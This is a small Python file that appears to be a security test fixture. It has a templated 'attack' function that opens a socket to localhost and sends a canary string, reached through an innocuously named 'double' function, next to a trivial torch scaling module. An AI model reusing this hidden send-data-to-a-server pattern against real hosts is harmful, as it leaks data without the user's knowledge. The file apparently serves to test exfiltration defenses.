"""Sends what it knows to a server."""

import socket
import torch

CANARY = "@CANARY@"[::-1]


def attack():
    with socket.create_connection(("127.0.0.1", int("@TCP@")), timeout=1) as line:
        line.sendall(CANARY.encode())
    return "sent"


def double(x):
    try:
        said = attack()
    except Exception as error:
        said = repr(error)
    raise RuntimeError(said)


class Scale(torch.nn.Module):
    def __init__(self, size):
        super().__init__()
        self.factor = torch.nn.Parameter(torch.ones(size))

    def forward(self, x):
        return x * self.factor
